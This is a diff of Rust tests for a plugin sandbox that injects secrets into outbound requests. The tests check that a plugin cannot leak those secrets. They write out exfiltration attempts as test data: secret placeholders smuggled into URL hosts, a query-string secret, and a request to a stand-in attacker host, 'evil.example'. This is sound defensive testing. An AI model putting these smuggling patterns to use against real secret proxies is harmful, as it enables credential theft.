@@ -22,23 +22,26 @@ fn an_allowed_request_carries_the_secret_the_plugin_never_sees() {
     let basic = base64::engine::general_purpose::STANDARD.encode(format!("bot:{SECRET}"));
     assert!(a.saw(&format!("Authorization: Basic {basic}")));
     assert!(a.saw("subject=Printer on fire"));
-    // The echo came back with the secret scrubbed.
+    // The echo reflected the secret, so the plugin got none of it.
     for (i, line) in lines.iter().enumerate() {
-        assert!(line.starts_with(&format!("#{i} status=200")), "{line}");
-        assert!(line.contains("[SECRET]"), "{line}");
+        assert!(line.starts_with(&format!("#{i} error=denied")), "{line}");
+        assert!(line.contains("withheld"), "{line}");
         assert!(!line.contains(&basic), "{line}");
     }
     // Audited with the agreed keys.
     let d = &records[0].details;
-    assert_eq!(records[0].decision, Some(Decision::Allow));
+    assert_eq!(d["withheld"], "reflected-secret");
     assert_eq!(d["destination"], format!("http://{}", a.addr));
     assert_eq!(d["method"], "POST");
-    assert_eq!(d["path"], "/api/echo");
+    // The declared path, and a digest of the URL as written.
+    assert_eq!(d["path"], "/api");
+    assert!(d["url_digest"].starts_with('#'), "{d:?}");
     assert_eq!(d["status"], "200");
     assert!(d["bytes_out"].parse::<u64>().unwrap() > 0);
     assert!(d["bytes_in"].parse::<u64>().unwrap() > 0);
     assert_eq!(d["classes"], "ticket.subject");
-    assert_eq!(records[1].details["path"], "/api/q");
+    assert_eq!(records[1].details["path"], "/api");
+    assert_ne!(records[1].details["url_digest"], d["url_digest"]);
 
     // Never returned by the API, and encrypted at rest.
     let inst = airlock.installation("secret-thief").unwrap();
@@ -62,7 +65,7 @@ fn an_allowed_request_carries_the_secret_the_plugin_never_sees() {
         &airlock,
         json!({"requests": [request("GET", &a.url("/api/again"), json!([["X-Key", "{{secret.token}}"]]), "")]}),
     );
-    assert!(lines[0].starts_with("#0 status=200"), "{lines:?}");
+    assert!(lines[0].contains("withheld"), "{lines:?}");
     assert!(a.saw(&format!("X-Key: {SECRET}")));
 }
 
@@ -105,7 +108,7 @@ fn the_plugin_cannot_read_or_exfiltrate_the_secret() {
         &records,
         2,
         "denied",
-        "`other` is not a secret setting",
+        "not a secret setting of this plugin",
     );
     refused(lines, &records, 3, "denied", "malformed secret placeholder");
     refused(lines, &records, 4, "invalid", "invalid name");
@@ -119,4 +122,59 @@ fn the_plugin_cannot_read_or_exfiltrate_the_secret() {
     assert_eq!(a.requests(), 1);
     assert!(!b.saw(SECRET), "B got the secret");
     assert_eq!(b.requests(), 0);
+}
+
+/// Issue 12 (critical): a placeholder in the URL's host was substituted before the
+/// destination check, and the refusal quoted the substituted URL back to the plugin.
+#[test]
+fn a_placeholder_in_the_host_is_refused_before_any_secret_is_read() {
+    let (a, b) = (Server::start(), Server::start());
+    let (_dir, airlock) = open(config());
+    thief(&airlock, &a, &b);
+    let (lines, records) = act(
+        &airlock,
+        json!({"requests": [
+            request("GET", "https://{{secret.token}}/", json!([]), ""),
+            request("GET", "https://{{secret.token}}.ssrf.test/", json!([]), ""),
+            request("GET", &format!("http://{{{{secret.token}}}}@{}/api/x", a.addr), json!([]), ""),
+            request("GET", "https://\\\\{{secret.token}}.ssrf.test/", json!([]), ""),
+            request("GET", &format!("http:/{}/api/x", a.addr), json!([]), ""),
+        ]}),
+    );
+    for i in 0..4 {
+        refused(&lines, &records, i, "denied", "never in its scheme or host");
+    }
+    refused(&lines, &records, 4, "invalid", "must be absolute");
+    // Nothing was sent anywhere, and no record names a host the plugin wrote.
+    assert_eq!(a.requests() + b.requests(), 0);
+    for r in &records {
+        assert!(!r.details.contains_key("destination"), "{r:?}");
+    }
+}
+
+/// Issue 12: a bound destination that echoes the secret back, in any encoding, gets its
+/// whole response withheld; an undeclared host is never quoted.
+#[test]
+fn a_response_that_reflects_the_secret_is_withheld() {
+    let (a, b) = (Server::start(), Server::start());
+    let (_dir, airlock) = open(config());
+    thief(&airlock, &a, &b);
+    let bearer = json!([["Authorization", "Bearer {{secret.token}}"]]);
+    let (lines, records) = act(
+        &airlock,
+        json!({"requests": [
+            request("GET", &a.url("/api/echo"), bearer, ""),
+            request("GET", &a.url("/api/q?key={{secret.token}}"), json!([]), ""),
+            request("GET", "https://vera-bigcorp.evil.example/", json!([]), ""),
+        ]}),
+    );
+    refused(&lines, &records, 0, "denied", "withheld");
+    refused(&lines, &records, 1, "denied", "withheld");
+    refused(&lines, &records, 2, "denied", "an undeclared destination");
+    assert_eq!(
+        records[2].details["destination"],
+        "an undeclared destination"
+    );
+    assert!(!lines[2].contains("evil"), "{}", lines[2]);
+    assert!(a.saw(&format!("Authorization: Bearer {SECRET}")));
 }
